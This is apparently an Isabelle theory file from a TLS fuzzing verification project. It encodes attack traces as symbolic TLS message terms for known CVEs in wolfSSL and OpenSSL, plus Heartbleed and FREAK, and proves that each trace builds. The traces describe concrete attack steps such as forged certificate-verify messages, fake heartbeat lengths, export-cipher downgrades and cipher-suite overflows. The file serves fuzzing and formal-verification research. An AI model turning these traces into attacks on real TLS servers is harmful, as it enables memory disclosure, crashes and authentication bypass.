(* ===== verification/Tls_Vulnerabilities.thy ===== *)
theory Tls_Vulnerabilities
  imports Tls_Seeds
begin

text \<open>
  The attack traces of \<open>tlspuffin/src/tls/vulnerabilities.rs\<close>, one for each vulnerability, in the form of \<open>Tls_Seeds\<close>, with the lemmas that
  they build.
\<close>

subsection \<open>The attacks\<close>

definition seed_cve_2022_25638 :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_cve_2022_25638 B server =
     build_let B
       (SApp (F_Msg Fn_client_hello) [
          SApp (F_Field Fn_protocol_version12) [],
          SApp (F_Field Fn_new_random) [],
          SApp (F_Field Fn_new_session_id) [],
          SApp (F_Field Fn_append_cipher_suite) [
            SApp (F_Field Fn_new_cipher_suites) [],
            SApp (F_Field Fn_cipher_suite13_aes_128_gcm_sha256) []],
          SApp (F_Field Fn_compressions) [],
          SApp (F_Ext Fn_client_extensions_append) [
            SApp (F_Ext Fn_client_extensions_append) [
              SApp (F_Ext Fn_client_extensions_append) [
                SApp (F_Ext Fn_client_extensions_append) [
                  SApp (F_Ext Fn_client_extensions_new) [],
                  SApp (F_Ext Fn_support_group_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
                SApp (F_Ext Fn_signature_algorithm_extension) []],
              SApp (F_Ext2 Fn_key_share_deterministic_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
            SApp (F_Ext2 Fn_supported_versions13_extension) []]]) (\<lambda>client_hello.
     build_let B
       (SApp (F_Util Fn_decrypt_handshake) [
          SVar server 1 (Some TlsQueryMatcher.ApplicationData) None,
          SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
          SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
          SApp (F_Util Fn_no_psk) [],
          SApp (F_Util Fn_named_group_secp384r1) [],
          SApp (F_Constant Fn_true) [],
          SApp (F_Constant Fn_seq_1) []]) (\<lambda>certificate_request_message.
     build_let B
       (SApp (F_Msg Fn_certificate13) [
          SApp (F_Cert Fn_get_context) [SRef certificate_request_message],
          SApp (F_Cert Fn_append_certificate_entry) [
            SApp (F_Cert Fn_certificate_entry) [SApp (F_Cert Fn_eve_cert) []],
            SApp (F_Cert Fn_empty_certificate_chain) []]]) (\<lambda>certificate_rsa.
     build_let B
       (SApp (F_Msg Fn_certificate_verify) [
          SApp (F_Cert Fn_invalid_signature_algorithm) [],
          SApp (F_Cert Fn_eve_pkcs1_signature) []]) (\<lambda>certificate_verify_rsa.
     build_let B
       (SApp (F_Msg Fn_finished) [
          SApp (F_Field Fn_verify_data) [
            SApp (F_Trans Fn_server_finished_transcript) [SVar server 0 None None],
            SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
            SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
            SApp (F_Util Fn_no_psk) [],
            SApp (F_Util Fn_named_group_secp384r1) []]]) (\<lambda>client_finished.
     build_bind
       (make_trace B []
          [AgentDescriptor_default\<lparr>ad_name := server, ad_tls_version := V1_3, ad_typ := AgentType.Server, ad_client_authentication := True\<rparr>]
          [IN server (SRef client_hello),
           IN server
             (SApp (F_Util Fn_encrypt_handshake) [
                SRef certificate_rsa,
                SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
                SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
                SApp (F_Util Fn_no_psk) [],
                SApp (F_Util Fn_named_group_secp384r1) [],
                SApp (F_Constant Fn_true) [],
                SApp (F_Constant Fn_seq_0) []]),
           IN server
             (SApp (F_Util Fn_encrypt_handshake) [
                SRef certificate_verify_rsa,
                SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
                SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
                SApp (F_Util Fn_no_psk) [],
                SApp (F_Util Fn_named_group_secp384r1) [],
                SApp (F_Constant Fn_true) [],
                SApp (F_Constant Fn_seq_1) []]),
           IN server
             (SApp (F_Util Fn_encrypt_handshake) [
                SRef client_finished,
                SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
                SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
                SApp (F_Util Fn_no_psk) [],
                SApp (F_Util Fn_named_group_secp384r1) [],
                SApp (F_Constant Fn_true) [],
                SApp (F_Constant Fn_seq_2) []])]) (\<lambda>trace.
     build_return trace))))))"

definition seed_cve_2022_25640 :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_cve_2022_25640 B server =
     build_let B
       (SApp (F_Msg Fn_client_hello) [
          SApp (F_Field Fn_protocol_version12) [],
          SApp (F_Field Fn_new_random) [],
          SApp (F_Field Fn_new_session_id) [],
          SApp (F_Field Fn_append_cipher_suite) [
            SApp (F_Field Fn_new_cipher_suites) [],
            SApp (F_Field Fn_cipher_suite13_aes_128_gcm_sha256) []],
          SApp (F_Field Fn_compressions) [],
          SApp (F_Ext Fn_client_extensions_append) [
            SApp (F_Ext Fn_client_extensions_append) [
              SApp (F_Ext Fn_client_extensions_append) [
                SApp (F_Ext Fn_client_extensions_append) [
                  SApp (F_Ext Fn_client_extensions_new) [],
                  SApp (F_Ext Fn_support_group_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
                SApp (F_Ext Fn_signature_algorithm_extension) []],
              SApp (F_Ext2 Fn_key_share_deterministic_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
            SApp (F_Ext2 Fn_supported_versions13_extension) []]]) (\<lambda>client_hello.
     build_let B
       (SApp (F_Util Fn_decrypt_handshake) [
          SVar server 1 (Some TlsQueryMatcher.ApplicationData) None,
          SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
          SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
          SApp (F_Util Fn_no_psk) [],
          SApp (F_Util Fn_named_group_secp384r1) [],
          SApp (F_Constant Fn_true) [],
          SApp (F_Constant Fn_seq_1) []]) (\<lambda>certificate_request_message.
     build_let B
       (SApp (F_Msg Fn_certificate13) [
          SApp (F_Cert Fn_get_context) [SRef certificate_request_message],
          SApp (F_Cert Fn_append_certificate_entry) [
            SApp (F_Cert Fn_certificate_entry) [SApp (F_Cert Fn_eve_cert) []],
            SApp (F_Cert Fn_empty_certificate_chain) []]]) (\<lambda>certificate.
     build_let B
       (SApp (F_Msg Fn_finished) [
          SApp (F_Field Fn_verify_data) [
            SApp (F_Trans Fn_certificate_transcript) [SVar server 0 None None],
            SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
            SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
            SApp (F_Util Fn_no_psk) [],
            SApp (F_Util Fn_named_group_secp384r1) []]]) (\<lambda>client_finished.
     build_bind
       (make_trace B []
          [AgentDescriptor_default\<lparr>ad_name := server, ad_tls_version := V1_3, ad_typ := AgentType.Server, ad_client_authentication := True\<rparr>]
          [IN server (SRef client_hello),
           IN server
             (SApp (F_Util Fn_encrypt_handshake) [
                SRef certificate,
                SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
                SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
                SApp (F_Util Fn_no_psk) [],
                SApp (F_Util Fn_named_group_secp384r1) [],
                SApp (F_Constant Fn_true) [],
                SApp (F_Constant Fn_seq_0) []]),
           IN server
             (SApp (F_Util Fn_encrypt_handshake) [
                SRef client_finished,
                SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
                SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
                SApp (F_Util Fn_no_psk) [],
                SApp (F_Util Fn_named_group_secp384r1) [],
                SApp (F_Constant Fn_true) [],
                SApp (F_Constant Fn_seq_1) []])]) (\<lambda>trace.
     build_return trace)))))"

definition seed_cve_2021_3449 :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_cve_2021_3449 B server =
     build_bind (seed_client_attacker12_terms B server) (\<lambda>(trace, client_verify_data).
     build_let B
       (SApp (F_Msg Fn_client_hello) [
          SApp (F_Field Fn_protocol_version12) [],
          SApp (F_Field Fn_new_random) [],
          SApp (F_Field Fn_new_session_id) [],
          SApp (F_Field Fn_append_cipher_suite) [
            SApp (F_Field Fn_new_cipher_suites) [],
            SApp (F_Field Fn_cipher_suite12) []],
          SApp (F_Field Fn_compressions) [],
          SApp (F_Ext Fn_client_extensions_append) [
            SApp (F_Ext Fn_client_extensions_append) [
              SApp (F_Ext Fn_client_extensions_append) [
                SApp (F_Ext Fn_client_extensions_append) [
                  SApp (F_Ext Fn_client_extensions_append) [
                    SApp (F_Ext Fn_client_extensions_new) [],
                    SApp (F_Ext Fn_support_group_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
                  SApp (F_Ext Fn_ec_point_formats_extension) []],
                SApp (F_Ext Fn_signed_certificate_timestamp_extension) []],
              SApp (F_Ext2 Fn_renegotiation_info_extension) [SRef client_verify_data]],
            SApp (F_Ext2 Fn_signature_algorithm_cert_extension) []]]) (\<lambda>renegotiation_client_hello.
     build_bind (steps_push B trace
       (IN server
          (SApp (F_Util Fn_encrypt12) [
             SRef renegotiation_client_hello,
             SVar server 0 None None,
             SApp (F_Util Fn_decode_ecdh_pubkey) [SVar server 0 (on_hs HandshakeType.ServerKeyExchange) (Some T_Bytes)],
             SApp (F_Util Fn_named_group_secp384r1) [],
             SApp (F_Constant Fn_true) [],
             SApp (F_Constant Fn_seq_1) []]))) (\<lambda>trace.
     build_return trace)))"

definition seed_heartbleed :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_heartbleed B client server =
     build_let B
       (SApp (F_Msg Fn_client_hello) [
          SApp (F_Field Fn_protocol_version12) [],
          SApp (F_Field Fn_new_random) [],
          SApp (F_Field Fn_new_session_id) [],
          SApp (F_Field Fn_append_cipher_suite) [
            SApp (F_Field Fn_new_cipher_suites) [],
            SApp (F_Field Fn_cipher_suite12) []],
          SApp (F_Field Fn_compressions) [],
          SApp (F_Ext Fn_client_extensions_append) [
            SApp (F_Ext Fn_client_extensions_append) [
              SApp (F_Ext Fn_client_extensions_append) [
                SApp (F_Ext Fn_client_extensions_new) [],
                SApp (F_Ext Fn_support_group_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
              SApp (F_Ext Fn_ec_point_formats_extension) []],
            SApp (F_Ext Fn_signed_certificate_timestamp_extension) []]]) (\<lambda>client_hello.
     build_bind
       (make_trace B []
          [new_client client V1_2,
         new_server server V1_2]
          [MOVE server client_hello,
           IN server
             (SApp (F_Msg Fn_heartbeat_fake_length) [
                SApp (F_Constant Fn_empty_bytes_vec) [],
                SApp (F_Constant Fn_large_length) []])]) (\<lambda>trace.
     build_return trace))"

definition seed_freak :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_freak B client server =
     make_trace B []
       [new_client client V1_2,
        new_server server V1_2]
       [OUT client,
        IN server
          (SApp (F_Msg Fn_client_hello) [
             SVar client 0 None None,
             SVar client 0 None None,
             SVar client 0 None None,
             SApp (F_Field Fn_append_cipher_suite) [
               SApp (F_Field Fn_new_cipher_suites) [],
               SApp (F_Field Fn_weak_export_cipher_suite) []],
             SVar client 0 None None,
             SVar client 0 None None]),
        IN client
          (SApp (F_Msg Fn_server_hello) [
             SVar server 0 None None,
             SVar server 0 None None,
             SVar server 0 None None,
             SApp (F_Field Fn_secure_rsa_cipher_suite12) [],
             SVar server 0 None None,
             SVar server 0 None None]),
        IN client (SApp (F_Msg Fn_certificate) [SVar server 0 None None]),
        IN client (SApp (F_Msg Fn_server_key_exchange) [SVar server 0 (on_hs HandshakeType.ServerKeyExchange) (Some T_Bytes)]),
        IN client (SApp (F_Msg Fn_server_hello_done) []),
        IN server (SApp (F_Msg Fn_client_key_exchange) [SVar client 0 (on_hs HandshakeType.ClientKeyExchange) (Some T_Bytes)]),
        IN server (SApp (F_Msg Fn_change_cipher_spec) [])]"

definition seed_cve_2022_25640_simple :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_cve_2022_25640_simple B server =
     build_let B
       (SApp (F_Msg Fn_client_hello) [
          SApp (F_Field Fn_protocol_version12) [],
          SApp (F_Field Fn_new_random) [],
          SApp (F_Field Fn_new_session_id) [],
          SApp (F_Field Fn_append_cipher_suite) [
            SApp (F_Field Fn_new_cipher_suites) [],
            SApp (F_Field Fn_cipher_suite13_aes_128_gcm_sha256) []],
          SApp (F_Field Fn_compressions) [],
          SApp (F_Ext Fn_client_extensions_append) [
            SApp (F_Ext Fn_client_extensions_append) [
              SApp (F_Ext Fn_client_extensions_append) [
                SApp (F_Ext Fn_client_extensions_append) [
                  SApp (F_Ext Fn_client_extensions_new) [],
                  SApp (F_Ext Fn_support_group_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
                SApp (F_Ext Fn_signature_algorithm_extension) []],
              SApp (F_Ext2 Fn_key_share_deterministic_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
            SApp (F_Ext2 Fn_supported_versions13_extension) []]]) (\<lambda>client_hello.
     build_let B
       (SApp (F_Msg Fn_finished) [
          SApp (F_Field Fn_verify_data) [
            SApp (F_Trans Fn_server_finished_transcript) [SVar server 0 None None],
            SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
            SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
            SApp (F_Util Fn_no_psk) [],
            SApp (F_Util Fn_named_group_secp384r1) []]]) (\<lambda>client_finished.
     build_bind
       (make_trace B []
          [AgentDescriptor_default\<lparr>ad_name := server, ad_tls_version := V1_3, ad_typ := AgentType.Server, ad_client_authentication := True\<rparr>]
          [IN server (SRef client_hello),
           IN server
             (SApp (F_Util Fn_encrypt_handshake) [
                SRef client_finished,
                SApp (F_Trans Fn_server_hello_transcript) [SVar server 0 None None],
                SApp (F_Field Fn_get_server_key_share) [SVar server 0 None None],
                SApp (F_Util Fn_no_psk) [],
                SApp (F_Util Fn_named_group_secp384r1) [],
                SApp (F_Constant Fn_true) [],
                SApp (F_Constant Fn_seq_0) []])]) (\<lambda>trace.
     build_return trace)))"

definition seed_cve_2022_38153 :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_cve_2022_38153 B client server =
     make_trace B []
       [new_client client V1_2,
        new_server server V1_2]
       [OUT client,
        IN server
          (SApp (F_Msg Fn_client_hello) [
             SVar client 0 None None,
             SVar client 0 None None,
             SVar client 0 None None,
             SVar client 0 None None,
             SVar client 0 None None,
             SVar client 0 None None]),
        IN client
          (SApp (F_Msg Fn_server_hello) [
             SVar server 0 None None,
             SVar server 0 None None,
             SVar client 0 None None,
             SVar server 0 None None,
             SVar server 0 None None,
             SVar server 0 None None]),
        IN client (SApp (F_Msg Fn_certificate) [SVar server 0 None None]),
        IN client (SApp (F_Msg Fn_server_key_exchange) [SVar server 0 (on_hs HandshakeType.ServerKeyExchange) (Some T_Bytes)]),
        IN client (SApp (F_Msg Fn_server_hello_done) []),
        IN server (SApp (F_Msg Fn_client_key_exchange) [SVar client 0 (on_hs HandshakeType.ClientKeyExchange) (Some T_Bytes)]),
        IN server (SApp (F_Msg Fn_change_cipher_spec) []),
        IN server (SApp (F_Msg Fn_opaque_message) [SVar client 3 None None]),
        IN client
          (SApp (F_Msg Fn_new_session_ticket) [
             SVar server 0 None (Some T_U64),
             SApp (F_Constant Fn_large_bytes_vec) []])]"

definition seed_cve_2022_39173 :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_cve_2022_39173 B initial_server server =
     build_bind (seed_client_attacker B initial_server) (\<lambda>initial_handshake.
     build_let B
       (SApp (F_Util Fn_decrypt_application) [
          SVar initial_server 4 (Some TlsQueryMatcher.ApplicationData) None,
          SApp (F_Trans Fn_server_hello_transcript) [SVar initial_server 0 None None],
          SApp (F_Trans Fn_server_finished_transcript) [SVar initial_server 0 None None],
          SApp (F_Field Fn_get_server_key_share) [SVar initial_server 0 None None],
          SApp (F_Util Fn_no_psk) [],
          SApp (F_Util Fn_named_group_secp384r1) [],
          SApp (F_Constant Fn_true) [],
          SApp (F_Constant Fn_seq_0) []]) (\<lambda>new_ticket_message.
     build_let B (SApp (F_Field Fn_new_cipher_suites) []) (\<lambda>cipher_suites.
     build_bind
       (build_repeat 149 (\<lambda>cipher_suites.
          term_macro B (SApp (F_Field Fn_append_cipher_suite) [SRef cipher_suites, SApp (F_Field Fn_cipher_suite13_aes_128_gcm_sha256) []]) None)
          cipher_suites) (\<lambda>cipher_suites.
     build_let B
       (SApp (F_Msg Fn_client_hello) [
          SApp (F_Field Fn_protocol_version12) [],
          SApp (F_Field Fn_new_random) [],
          SApp (F_Field Fn_new_session_id) [],
          SApp (F_Field Fn_append_cipher_suite) [
            SRef cipher_suites,
            SApp (F_Field Fn_cipher_suite13_aes_256_gcm_sha384) []],
          SApp (F_Field Fn_compressions) [],
          SApp (F_Ext Fn_client_extensions_append) [
            SApp (F_Ext Fn_client_extensions_append) [
              SApp (F_Ext Fn_client_extensions_append) [
                SApp (F_Ext Fn_client_extensions_append) [
                  SApp (F_Ext Fn_client_extensions_append) [
                    SApp (F_Ext Fn_client_extensions_new) [],
                    SApp (F_Ext Fn_signature_algorithm_extension) []],
                  SApp (F_Ext2 Fn_supported_versions13_extension) []],
                SApp (F_Ext2 Fn_key_share_deterministic_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
              SApp (F_Ext2 Fn_psk_exchange_mode_dhe_ke_extension) []],
            SApp (F_Ext2 Fn_preshared_keys_extension_empty_binder) [SRef new_ticket_message]]]) (\<lambda>client_hello.
     build_let B
       (SApp (F_Util Fn_derive_psk) [
          SApp (F_Trans Fn_server_hello_transcript) [SVar initial_server 0 None None],
          SApp (F_Trans Fn_server_finished_transcript) [SVar initial_server 0 None None],
          SApp (F_Trans Fn_client_finished_transcript) [SVar initial_server 0 None None],
          SApp (F_Field Fn_get_server_key_share) [SVar initial_server 0 (on_hs HandshakeType.ServerHello) None],
          SApp (F_Util Fn_get_ticket_nonce) [SRef new_ticket_message],
          SApp (F_Util Fn_named_group_secp384r1) []]) (\<lambda>psk.
     build_let B (SApp (F_Util Fn_derive_binder) [SRef client_hello, SRef psk]) (\<lambda>binder.
     build_let B (SApp (F_Util Fn_fill_binder) [SRef client_hello, SRef binder]) (\<lambda>full_client_hello.
     build_bind
       (make_trace B [initial_handshake]
          [new_server server V1_3]
          [IN server (SRef full_client_hello),
           IN server (SRef full_client_hello)]) (\<lambda>trace.
     build_return trace)))))))))"

definition seed_cve_2022_39173_full :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_cve_2022_39173_full B initial_server server =
     build_bind (seed_client_attacker_full_terms B initial_server) (\<lambda>(initial_handshake, server_hello_transcript, server_finished_transcript, client_finished_transcript).
     build_let B
       (SApp (F_Util Fn_decrypt_application) [
          SVar initial_server 4 (Some TlsQueryMatcher.ApplicationData) None,
          SRef server_hello_transcript,
          SRef server_finished_transcript,
          SApp (F_Field Fn_get_server_key_share) [SVar initial_server 0 None None],
          SApp (F_Util Fn_no_psk) [],
          SApp (F_Util Fn_named_group_secp384r1) [],
          SApp (F_Constant Fn_true) [],
          SApp (F_Constant Fn_seq_0) []]) (\<lambda>new_ticket_message.
     build_let B (SApp (F_Field Fn_new_cipher_suites) []) (\<lambda>cipher_suites.
     build_bind
       (build_repeat 149 (\<lambda>cipher_suites.
          term_macro B (SApp (F_Field Fn_append_cipher_suite) [SRef cipher_suites, SApp (F_Field Fn_cipher_suite13_aes_128_gcm_sha256) []]) None)
          cipher_suites) (\<lambda>cipher_suites.
     build_let B
       (SApp (F_Msg Fn_client_hello) [
          SApp (F_Field Fn_protocol_version12) [],
          SApp (F_Field Fn_new_random) [],
          SApp (F_Field Fn_new_session_id) [],
          SApp (F_Field Fn_append_cipher_suite) [
            SRef cipher_suites,
            SApp (F_Field Fn_cipher_suite13_aes_128_gcm_sha256) []],
          SApp (F_Field Fn_compressions) [],
          SApp (F_Ext Fn_client_extensions_append) [
            SApp (F_Ext Fn_client_extensions_append) [
              SApp (F_Ext Fn_client_extensions_append) [
                SApp (F_Ext Fn_client_extensions_append) [
                  SApp (F_Ext Fn_client_extensions_append) [
                    SApp (F_Ext Fn_client_extensions_new) [],
                    SApp (F_Ext Fn_signature_algorithm_extension) []],
                  SApp (F_Ext2 Fn_supported_versions13_extension) []],
                SApp (F_Ext2 Fn_key_share_deterministic_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
              SApp (F_Ext2 Fn_psk_exchange_mode_dhe_ke_extension) []],
            SApp (F_Ext2 Fn_preshared_keys_extension_empty_binder) [SRef new_ticket_message]]]) (\<lambda>client_hello.
     build_let B
       (SApp (F_Util Fn_derive_psk) [
          SRef server_hello_transcript,
          SRef server_finished_transcript,
          SRef client_finished_transcript,
          SApp (F_Field Fn_get_server_key_share) [SVar initial_server 0 (on_hs HandshakeType.ServerHello) None],
          SApp (F_Util Fn_get_ticket_nonce) [SRef new_ticket_message],
          SApp (F_Util Fn_named_group_secp384r1) []]) (\<lambda>psk.
     build_let B (SApp (F_Util Fn_derive_binder) [SRef client_hello, SRef psk]) (\<lambda>binder.
     build_let B (SApp (F_Util Fn_fill_binder) [SRef client_hello, SRef binder]) (\<lambda>full_client_hello.
     build_bind
       (make_trace B [initial_handshake]
          [new_server server V1_3]
          [IN server (SRef full_client_hello),
           IN server (SRef full_client_hello)]) (\<lambda>trace.
     build_return trace)))))))))"

definition seed_cve_2022_39173_minimized :: "('c, 'd, 'r) builder \<Rightarrow> AgentName \<Rightarrow> ('r, 'd tls_trace) build" where
  "seed_cve_2022_39173_minimized B server =
     build_let B
       (SApp (F_Msg Fn_new_session_ticket13) [
          SApp (F_Cert Fn_alice_cert) [],
          SApp (F_Cert Fn_alice_cert) [],
          SApp (F_Ext Fn_new_session_ticket_extensions_new) []]) (\<lambda>new_ticket_message.
     build_let B (SApp (F_Field Fn_new_cipher_suites) []) (\<lambda>cipher_suites.
     build_bind
       (build_repeat 149 (\<lambda>cipher_suites.
          term_macro B (SApp (F_Field Fn_append_cipher_suite) [SRef cipher_suites, SApp (F_Field Fn_cipher_suite13_aes_256_gcm_sha384) []]) None)
          cipher_suites) (\<lambda>cipher_suites.
     build_let B
       (SApp (F_Msg Fn_client_hello) [
          SApp (F_Field Fn_protocol_version12) [],
          SApp (F_Field Fn_new_random) [],
          SApp (F_Field Fn_new_session_id) [],
          SApp (F_Field Fn_append_cipher_suite) [
            SRef cipher_suites,
            SApp (F_Field Fn_cipher_suite13_aes_256_gcm_sha384) []],
          SApp (F_Field Fn_compressions) [],
          SApp (F_Ext Fn_client_extensions_append) [
            SApp (F_Ext Fn_client_extensions_append) [
              SApp (F_Ext Fn_client_extensions_append) [
                SApp (F_Ext Fn_client_extensions_append) [
                  SApp (F_Ext Fn_client_extensions_append) [
                    SApp (F_Ext Fn_client_extensions_new) [],
                    SApp (F_Ext Fn_signature_algorithm_extension) []],
                  SApp (F_Ext2 Fn_supported_versions13_extension) []],
                SApp (F_Ext2 Fn_key_share_deterministic_extension) [SApp (F_Util Fn_named_group_secp384r1) []]],
              SApp (F_Ext2 Fn_psk_exchange_mode_dhe_ke_extension) []],
            SApp (F_Ext2 Fn_preshared_keys_extension_empty_binder) [SRef new_ticket_message]]]) (\<lambda>client_hello.
     build_bind
       (make_trace B []
          [new_server server V1_3]
          [IN server (SRef client_hello),
           IN server (SRef client_hello)]) (\<lambda>trace.
     build_return trace)))))"

subsection \<open>They build\<close>

lemma seed_cve_2022_25638_builds: "builds (seed_trace B {server} {server} 4) (seed_cve_2022_25638 B server)"
  unfolding seed_cve_2022_25638_def build_bind_return
  by ((rule builds_let [where A = "{server}"], simp)+, rule builds_trace) (auto dest: seed_traceD)

lemma seed_cve_2022_25640_builds: "builds (seed_trace B {server} {server} 3) (seed_cve_2022_25640 B server)"
  unfolding seed_cve_2022_25640_def build_bind_return
  by ((rule builds_let [where A = "{server}"], simp)+, rule builds_trace) (auto dest: seed_traceD)

lemma seed_cve_2021_3449_builds: "builds (seed_trace B {server} {server} 5) (seed_cve_2021_3449 B server)"
  unfolding seed_cve_2021_3449_def build_bind_return
  by (rule builds_bind [OF seed_client_attacker12_terms_mono [where A = "{server}"]], simp, clarify,
      (rule builds_let [where A = "{server}"], simp)+, rule builds_push, assumption, simp, simp)

lemma seed_heartbleed_builds: "builds (seed_trace B {client, server} {client, server} 2) (seed_heartbleed B client server)"
  unfolding seed_heartbleed_def build_bind_return
  by ((rule builds_let [where A = "{client, server}"], simp)+, rule builds_trace) (auto dest: seed_traceD)

lemma seed_freak_builds: "builds (seed_trace B {client, server} {client, server} 8) (seed_freak B client server)"
  unfolding seed_freak_def build_bind_return
  by (rule builds_trace) (auto dest: seed_traceD)

lemma seed_cve_2022_25640_simple_builds: "builds (seed_trace B {server} {server} 2) (seed_cve_2022_25640_simple B server)"
  unfolding seed_cve_2022_25640_simple_def build_bind_return
  by ((rule builds_let [where A = "{server}"], simp)+, rule builds_trace) (auto dest: seed_traceD)

lemma seed_cve_2022_38153_builds: "builds (seed_trace B {client, server} {client, server} 10) (seed_cve_2022_38153 B client server)"
  unfolding seed_cve_2022_38153_def build_bind_return
  by (rule builds_trace) (auto dest: seed_traceD)

lemma seed_cve_2022_39173_builds:
  "builds (seed_trace B {server} {server, initial_server} 2) (seed_cve_2022_39173 B initial_server server)"
  unfolding seed_cve_2022_39173_def build_bind_return
  by (rule builds_bind [OF seed_client_attacker_builds], (rule builds_let [where A = "{server, initial_server}"], simp)+,
      rule builds_repeat_let [where A = "{server, initial_server}" and T = T_CipherSuites], simp, simp, simp,
      (rule builds_let [where A = "{server, initial_server}"], simp)+, rule builds_trace) (auto dest: seed_traceD)

lemma seed_cve_2022_39173_full_builds:
  "builds (seed_trace B {server} {server, initial_server} 2) (seed_cve_2022_39173_full B initial_server server)"
  unfolding seed_cve_2022_39173_full_def build_bind_return
  by (rule builds_bind [OF seed_client_attacker_full_terms_mono [where A = "{server, initial_server}"]], simp, clarify,
      (rule builds_let [where A = "{server, initial_server}"], simp)+,
      rule builds_repeat_let [where A = "{server, initial_server}" and T = T_CipherSuites], simp, simp, simp, (rule builds_let [where A = "{server, initial_server}"], simp)+, rule builds_trace) (auto dest: seed_traceD)

lemma seed_cve_2022_39173_minimized_builds: "builds (seed_trace B {server} {server} 2) (seed_cve_2022_39173_minimized B server)"
  unfolding seed_cve_2022_39173_minimized_def build_bind_return
  by ((rule builds_let [where A = "{server}"], simp)+, rule builds_repeat_let [where A = "{server}" and T = T_CipherSuites], simp, simp,
      simp, (rule builds_let [where A = "{server}"], simp)+, rule builds_trace) (auto dest: seed_traceD)


end
